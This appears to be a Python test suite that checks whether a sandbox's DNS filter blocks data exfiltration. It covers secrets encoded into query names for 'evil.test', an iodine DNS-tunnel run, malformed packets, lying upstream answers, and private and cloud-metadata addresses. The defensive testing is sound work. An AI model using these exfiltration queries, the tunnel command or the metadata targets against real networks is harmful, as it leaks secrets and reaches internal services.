"""Queries of a hostile sandbox, answers of hostile name servers (threats 2.4; cases C)."""
import asyncio
import base64
import os
import socket
import struct
import subprocess

import names as n
import world as w
from tally import program
from ways import CLOSED, Got, query, told, wire

NS = ("box", "cell")
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35,
         "DNAME": 39, "DS": 43, "RRSIG": 46, "DNSKEY": 48, "TLSA": 52, "SVCB": 64, "HTTPS": 65, "SPF": 99, "TKEY": 249, "IXFR": 251,
         "AXFR": 252, "ANY": 255, "URI": 256, "CAA": 257, "65280": 65280, "0": 0, "65535": 65535}


async def tcp(battery, ns, packet, piece=None, wait=4.0):
    """The answer over TCP; packet with its length in front."""
    link = await battery.ways.dial(ns, "8.8.8.8", 53)
    for i in range(0, len(packet), piece or len(packet) or 1):
        await link.send(packet[i:i + (piece or len(packet))])
        if piece:
            await asyncio.sleep(0.001)
    try:
        size = await asyncio.wait_for(link.take(2), wait)
        return told(await link.take(struct.unpack("!H", size)[0])) if size else CLOSED
    except TimeoutError:
        return CLOSED
    finally:
        link.close()


def both(battery, ns, packet, proto, **kw):
    if proto == "tcp":
        return lambda: tcp(battery, ns, struct.pack("!H", len(packet)) + packet, **kw)

    async def udp():
        answer = await battery.ways.ask(ns, packet, **kw)
        return CLOSED if answer is None else told(answer)
    return udp


def ask(battery, inputs, protos=("udp", "tcp"), **kw):
    """inputs: (label, packet, codes)."""
    return battery.run((label, (ns, "dns"), codes, both(battery, ns, packet, proto, **kw))
                       for label, packet, codes in inputs for ns in NS for proto in protos)


def test_secrets_in_names_never_leave(battery):
    """S01, C01, C02: every type, whatever is in the labels; the oracle counts packets."""
    secret = base64.b32encode(b"the secret of this sandbox").decode().strip("=")
    names = [f"{secret}.evil.test", f"{secret}.a.b.c.evil.test", f"data.{secret}.ok.test", "data.ok.test", f"{secret}.test"]
    ask(battery, [(f"{name} {kind}", query(name, number), "denied_by_policy") for name in names for kind, number in TYPES.items()])
    long = ".".join([secret[:40]] * 5) + ".evil.test"
    ask(battery, [(f"long {i}", query(f"{i}." + long), "denied_by_policy") for i in range(40)])


def test_other_types_of_an_allowed_name_are_empty(battery):
    """T10, S13: HTTPS and SVCB first of all; nothing but A and AAAA is asked upstream."""
    before = sum(battery.world.resolver.seen.values())
    gots = ask(battery, [(kind, query("ok.test", number), {"ok", "dns_not_found", "bad_query"})
                         for kind, number in TYPES.items() if kind not in ("A", "AAAA")])
    assert all(got.data == b"" for _, _, got in gots)
    assert sum(battery.world.resolver.seen.values()) - before <= 4, "the good requests' own"


def test_nothing_is_looked_up_backwards(battery):
    names = ["5.0.0.10.in-addr.arpa", "1.0.0.127.in-addr.arpa", "10.216.184.93.in-addr.arpa", "254.169.254.169.in-addr.arpa",
             "0." * 32 + "ip6.arpa", "1." + "0." * 31 + "ip6.arpa", "b._dns-sd._udp.0.0.0.10.in-addr.arpa"]
    ask(battery, [(name, query(name, 12), "denied_by_policy") for name in names])
    ask(battery, [("of an allowed name", query("ok.test", 12), "dns_not_found")])


def test_other_classes_opcodes_and_flags(battery):
    codes = {"method_refused", "bad_query", "closed", "ok"}
    ask(battery, [(f"class {k}", query("ok.test", klass=k), {"method_refused", "bad_query"}) for k in (0, 2, 3, 4, 254, 255, 257, 65535)], ("udp",))
    ask(battery, [(f"flags {f:04x}", query("ok.test", flags=f), codes) for f in
                  (0x0900, 0x1100, 0x2100, 0x2900, 0x3100, 0x7900, 0x8100, 0x8180, 0x0200, 0x0080, 0x0110, 0x0120, 0x0140, 0x010f)], ("udp",), wait=0.5)


def labels():
    for label in (b"ok.test", b"evil.test\0", b"ok\0", b"o@k", b"o\\k", b"o k", b"\xff\xfe", b"*", b"ok\x2e", b"%6fk", b"o\tk", b"o/k",
                  b"o:k", b"(ok)", b"o'k", b'o"k', b"o;k", b"o\x7fk", b"\x01"):
        yield f"label {label!r}", bytes([len(label)]) + label + b"\x04test\0"
        yield f"label {label!r} of an allowed pattern", bytes([len(label)]) + label + b"\x01w\x04test\0"
    yield "one label with dots", b"\x07ok.test\0"
    yield "dots in both", b"\x05a.w.t\x03est\0"


def test_labels_are_compared_as_labels(battery):
    """S07: a dot or a NUL inside a label is no separator."""
    ask(battery, [(label, query(name), {"bad_query", "bad_host", "denied_by_policy"}) for label, name in labels()])
    ask(battery, [(f"case {name}", query(name), "ok") for name in ("OK.TEST", "oK.tEsT", "A.w.TEST")])


def packets():
    """S08: whole packets that don't parse."""
    head = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q = struct.pack("!HH", 1, 1)
    ok = wire("ok.test")
    yield "pointer to itself", head + b"\xc0\x0c" + q
    yield "pointer forward", head + b"\xc0\x20" + q + bytes(20)
    yield "pointer into the header", head + b"\xc0\x00" + q
    yield "pointer past the end", head + b"\xff\xff" + q
    yield "pointers in a circle", head + b"\xc0\x0e\xc0\x0c" + q
    yield "label then pointer to it", head + b"\x02ok\xc0\x0c" + q
    yield "pointer cut", head + b"\xc0"
    yield "type 0x40", head + b"\x41\x00" + q
    yield "type 0x80", head + b"\x82ok\x04test\0" + q
    yield "name of 256", head + b"\x3f" + b"a" * 63 + (b"\x3f" + b"b" * 63) * 3 + b"\0" + q
    yield "128 labels", head + b"\x01a" * 128 + b"\0" + q
    yield "no end of name", head + b"\x02ok\x04test"
    yield "label past the end", head + b"\x3fok"
    yield "no type", head + ok
    yield "half a type", head + ok + b"\0\1\0"
    yield "two questions", head[:4] + b"\0\2" + head[6:] + ok + q + wire("evil.test") + q
    yield "65535 questions", head[:4] + b"\xff\xff" + head[6:] + ok + q
    yield "no question", head[:4] + b"\0\0" + head[6:]
    yield "an answer in the query", head[:6] + b"\0\1\0\0\0\0" + ok + q + ok + struct.pack("!HHIH", 1, 1, 60, 4) + b"\x7f\0\0\1"
    yield "answers announced", head[:6] + b"\0\5\0\0\0\0" + ok + q
    yield "bytes behind", head + ok + q + b"\0"
    yield "1000 bytes behind", head + ok + q + bytes(1000)
    opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 0)
    one = head[:10] + b"\0\1"
    yield "two OPT", head[:10] + b"\0\2" + ok + q + opt + opt
    yield "OPT with a name", one + ok + q + ok + opt[1:]
    yield "OPT length past the end", one + ok + q + opt[:-2] + b"\x40\0"
    yield "OPT option past the end", one + ok + q + opt[:-2] + b"\0\4" + b"\0\3\xff\xff"
    yield "OPT cut", one + ok + q + opt[:5]
    yield "12 zeros", bytes(12)
    for i in range(12):
        yield f"header of {i}", head[:i]
    yield "60 kB", head + ok + q + bytes(60000)
    for i in range(0, len(ok + q), 2):
        yield f"cut at {i}", (head + ok + q)[:12 + i]


def test_packets_that_do_not_parse_are_answered_or_dropped(battery):
    ask(battery, [(label, p, {"bad_query", "closed"}) for label, p in packets() if len(p) < 1400], ("udp",), wait=0.4)
    ask(battery, [(label, p, {"bad_query", "closed"}) for label, p in packets()], ("tcp",), wait=0.4)


def test_sizes_of_edns_are_bounds_not_orders(battery):
    base = query("ok.test", opt=False)[:10] + b"\0\1" + query("ok.test", opt=False)[12:]
    ask(battery, [(f"size {s}", base + b"\0" + struct.pack("!HHIH", 41, s, 0, 0), "ok") for s in (0, 1, 511, 512, 1232, 4096, 65535)])
    ask(battery, [("an unknown option", base + b"\0" + struct.pack("!HHIH", 41, 1232, 0, 8) + b"\xff\xfe\0\x04abcd", "ok"),
                  ("a cookie and client subnet", base + b"\0" + struct.pack("!HHIH", 41, 1232, 0, 23)
                   + b"\0\x0a\0\x08" + bytes(8) + b"\0\x08\0\x07\0\1\x18\0\x0a\0\0", "ok")])


def test_tcp_lengths_and_pieces(battery):
    good = query("ok.test")
    framed = struct.pack("!H", len(good)) + good
    items = []
    for ns in NS:
        for label, data, codes, piece in (
                ("byte by byte", framed, "ok", 1), ("in threes", framed, "ok", 3), ("length 0", b"\0\0" + framed, {"closed", "bad_query"}, None),
                ("length 65535", b"\xff\xff" + good, "closed", None), ("short", struct.pack("!H", 5) + good, {"closed", "bad_query"}, None),
                ("evil byte by byte", struct.pack("!H", len(query("evil.test"))) + query("evil.test"), "denied_by_policy", 1),
                ("http", b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n", {"closed", "bad_query"}, None)):
            items.append((label, (ns, "dns"), codes, lambda ns=ns, data=data, piece=piece: tcp(battery, ns, data, piece, wait=0.6)))
    battery.run(items)


def test_iodine_gets_no_byte_through(battery):
    """S02: the real tunnel program, where it is installed, in both sandboxes."""
    iodine = program("iodine")
    started = [subprocess.Popen(["nsenter", f"--net=/proc/{h.pid}/ns/net", "timeout", "6", iodine, "-f", "-r", "-P", "x", address, "evil.test"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
               for h, address in zip(battery.world.holders, ("8.8.8.8", "9.9.9.9"))]
    for p in started:
        assert p.wait(30) != 0
    battery.count("iodine", 2)
    battery.check_leaks()


# answers

PRIVATE = ["127.0.0.1", "127.255.255.254", "10.0.0.1", "10.0.0.5", "172.16.0.1", "172.31.255.255", "192.168.1.1", "100.64.0.1", "0.0.0.0",
           "0.1.2.3", "224.0.0.1", "239.255.255.255", "240.0.0.1", "255.255.255.255", "198.18.0.1", "198.19.255.255", "192.0.2.1",
           "198.51.100.1", "203.0.113.1", "192.0.0.1", "192.88.99.1", "169.254.1.1", "10.77.0.1", "10.77.0.2"]
METADATA = ["169.254.169.254", "169.254.170.2", "169.254.170.23", "168.63.129.16", "100.100.100.200", "192.0.0.192", "169.254.0.23"]
PRIVATE6 = ["::", "::1", "::ffff:10.0.0.5", "::ffff:127.0.0.1", "::127.0.0.1", "fe80::1", "fd00::1", "fc00::1", "fec0::1", "ff02::1",
            "2001:db8::1", "100::1", "64:ff9b::a00:1", "64:ff9b::7f00:1", "64:ff9b:1::a00:5", "2002:0a00:0001::1", "2002:7f00:1::",
            "2001:0:4136:e378:8000:63bf:f5ff:fffa", "::ffff:0:10.0.0.5", "fe80::5efe:10.0.0.5", "2001:2::1", "2001:10::1", "fd77::1", "fd77::2"]
METADATA6 = ["fd00:ec2::254", "fd00:ec2::23", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"]
ALL = [(ns, kind) for ns in NS for kind in ("connect", "socks", "absolute", "host", "sni", "dns")]


def register(battery, label, answers, ways=ALL, code="address_private"):
    """A name that is allowed and answered so; then it is tried by each way."""
    name = f"n{len(battery.world.resolver.answers)}.ans.test"
    battery.world.resolver.answers[name] = answers
    return [(label, way, code, lambda way=way: battery.ways.host(way, name.encode())) for way in ways]


def only(kind, *records):
    """These records for their type, nothing for the other."""
    return lambda q, name, asked, question: [w.reply(q, question, list(records) if asked == kind else [])]


def a(address, **kw):
    return w.record(1, socket.inet_aton(address), **kw)


def aaaa(address, **kw):
    return w.record(28, socket.inet_pton(socket.AF_INET6, address), **kw)


def test_addresses_inside_are_never_dialled(battery):
    """S05, C04, A10, A11, N05, N08: each class, as A or AAAA, by every way in.  A DNS
    question of the other type is an honest empty answer."""
    items = []
    for address in PRIVATE + METADATA:
        code = "address_metadata" if address in METADATA else {"address_private"}
        if address == w.BOX4:  # of another sandbox: as its own listeners
            code = {"address_private", "address_self"}
        items += register(battery, address, only(1, a(address)), code=code)
    other = [way for way in ALL if way[1] != "dns"]
    for address in PRIVATE6 + METADATA6:
        code = "address_metadata" if address in METADATA6 else {"address_private"}
        if address == w.BOX6:
            code = {"address_private", "address_self"}
        items += register(battery, address, only(28, aaaa(address)), other, code)
    battery.run(items)


def test_public_ones_remain_of_a_mixed_answer(battery):
    items = []
    for i, inside in enumerate(("127.0.0.1", "10.0.0.5", "169.254.1.1", "0.0.0.0")):
        items += register(battery, f"inside first {inside}", only(1, a(inside), a(w.OK)), code="ok")
        items += register(battery, f"inside last {inside}", only(1, a(w.OK), a(inside)), code="ok")
        items += register(battery, f"inside as AAAA {inside}", lambda q, name, asked, question, inside=inside: [w.reply(
            q, question, [a(w.OK)] if asked == 1 else [aaaa("::ffff:" + inside)])], code="ok")
    battery.run(items)


def test_a_metadata_name_stays_refused_although_it_is_listed(battery):
    battery.world.resolver.answers["metadata.google.internal"] = only(1, a("169.254.169.254"))
    battery.run(("metadata", way, "address_metadata", lambda way=way: battery.ways.host(way, b"metadata.google.internal")) for way in ALL)


def cname(target, owner=b"\xc0\x0c", ttl=60):
    return w.record(5, wire(target), name=owner, ttl=ttl)


def deeds():
    """S10, D19: answers that lie or ramble: (label, function, codes)."""
    def raw(make):
        return lambda q, name, asked, question: make(q, asked, question)

    def ok(q, question, *records, **kw):
        return [w.reply(q, question, list(records), **kw)]
    gone = {"dns_failed", "dns_not_found"}
    yield "CNAME to localhost", only(1, cname("localhost"), a("127.0.0.1", name=wire("localhost"))), "address_private"
    yield "CNAME to an unlisted name", only(1, cname("evil.test"), a(w.OK, name=wire("evil.test"))), "ok"
    yield "CNAME to an inside name", only(1, cname("db.internal"), a("10.0.0.5", name=wire("db.internal"))), "address_private"
    chain = [cname(f"c{i + 1}.ans.test", wire(f"c{i}.ans.test") if i else b"\xc0\x0c") for i in range(100)]
    yield "CNAME chain of 100", only(1, *chain, a(w.OK, name=wire("c100.ans.test"))), gone | {"ok"}
    yield "CNAME to itself", only(1, cname("loop.ans.test", wire("loop.ans.test")), cname("loop.ans.test")), gone
    yield "two CNAMEs", only(1, cname("x.ans.test"), cname("y.ans.test"), a("127.0.0.1", name=wire("x.ans.test"))), gone | {"address_private"}
    yield "A of another name", only(1, a(w.OK, name=wire("other.ans.test"))), gone
    yield "A behind nothing", raw(lambda q, asked, question: ok(q, question, flags=0x8180)), gone
    yield "RDLEN 3", only(1, w.record(1, b"\x5d\xb8\xd8")), gone
    yield "RDLEN 5", only(1, w.record(1, b"\x5d\xb8\xd8\x0a\0")), gone
    yield "AAAA of 4 bytes", only(28, w.record(28, b"\x5d\xb8\xd8\x0a")), gone
    yield "RDLEN past the end", only(1, w.record(1, b"\x5d\xb8\xd8\x0a")[:-6] + b"\xff\xff\x5d\xb8"), gone
    yield "A in class CH", only(1, b"\xc0\x0c" + struct.pack("!HHIH", 1, 3, 60, 4) + socket.inet_aton(w.OK)), gone
    yield "NXDOMAIN with an answer", raw(lambda q, asked, question: ok(q, question, a(w.OK), flags=0x8183)), gone
    yield "SERVFAIL with an answer", raw(lambda q, asked, question: ok(q, question, a(w.OK), flags=0x8182)), gone
    yield "refused", raw(lambda q, asked, question: ok(q, question, flags=0x8185)), gone
    yield "no response bit", raw(lambda q, asked, question: ok(q, question, a(w.OK), flags=0x0100)), gone
    yield "wrong id", raw(lambda q, asked, question: ok(q, question, a("10.0.0.5"), ident=(struct.unpack("!H", q[:2])[0] + 1) & 65535)), gone
    yield "wrong question", raw(lambda q, asked, question: ok(q, wire("evil.ans.test") + question[-4:], a("10.0.0.5"))), gone
    yield "wrong type", raw(lambda q, asked, question: ok(q, question[:-4] + b"\0\x10\0\1", a("10.0.0.5"))), gone
    yield "letters not as asked", raw(lambda q, asked, question: ok(q, question.swapcase(), a("10.0.0.5"))), gone
    yield "no question", raw(lambda q, asked, question: [q[:2] + struct.pack("!HHHHH", 0x8180, 0, 0, 0, 0)]), gone
    yield "header only", raw(lambda q, asked, question: [q[:2] + b"\x81\x80"]), gone
    yield "empty datagram", raw(lambda q, asked, question: [b""]), gone
    yield "64 kB of junk", raw(lambda q, asked, question: [os.urandom(1400)]), gone
    yield "a lie before the truth", raw(lambda q, asked, question: ok(q, wire("x.ans.test") + question[-4:], a("10.0.0.5"))
                                        + ok(q, question, *([a(w.OK)] if asked == 1 else []))), "ok"
    yield "TTL 0", only(1, a(w.OK, ttl=0)), "ok"
    yield "TTL of 2^31-1", only(1, a(w.OK, ttl=0x7fffffff)), "ok"
    yield "TTL of 2^32-1", only(1, a(w.OK, ttl=0xffffffff)), "ok"
    yield "truncated for ever", raw(lambda q, asked, question: ok(q, question, flags=0x8380)), gone
    yield "60 addresses", only(1, *[a("10.0.0.%d" % i) for i in range(60)]), "address_private"
    yield "pointer loop", only(1, w.record(1, socket.inet_aton(w.OK), name=b"\xc0\x1c")), gone | {"ok"}


def test_answers_that_lie_reach_nothing(battery):
    """Each by DNS and by one way that dials; the oracle sees what was dialled."""
    items = []
    for label, answers, code in deeds():
        items += register(battery, label, answers, [("box", "connect"), ("cell", "absolute"), ("cell", "sni")], code)
        codes = {code} if isinstance(code, str) else code
        items += register(battery, label, answers, [("box", "dns"), ("cell", "dns")], codes | {"ok"})
    for label, way, got in battery.run(items):
        if way[1] == "dns":  # at worst no addresses; never one that was not meant
            assert got.data in (b"", socket.inet_aton(w.OK)), (label, got)


def test_other_resolvers_are_ours_too(battery):
    """S04: whatever resolver the sandbox asks, we answer, and from that address."""
    async def by(ns, address, name):
        answer = await battery.ways.ask(ns, query(name), address)  # connected: a foreign source would not arrive
        return CLOSED if answer is None else told(answer)
    battery.run((f"{address} {name}", (ns, "dns"), code, lambda ns=ns, address=address, name=name: by(ns, address, name))
                for address in ("8.8.8.8", "1.1.1.1", "10.0.0.53", "192.168.1.1", "169.254.169.253", w.RESOLVER, "2001:4860:4860::8888", "fd00::53")
                for name, code in (("ok.test", "ok"), ("evil.test", "denied_by_policy")) for ns in NS)


def test_spellings_of_names_in_dns(battery):
    """What the other ways refuse as a host is no name here either."""
    ask(battery, [(h, query(wire(h) if h.isascii() and all(0 < len(x) < 64 for x in h.rstrip(".").split(".")) else b"\x01x\0"),
                   {"bad_host", "denied_by_policy", "bad_query", "ip_literal", "ip_literal_nonstandard"})
                  for h in n.HYPHENS + n.PERCENT + n.NOT_QUITE_IPV4 + n.SINGLE], ("tcp",))
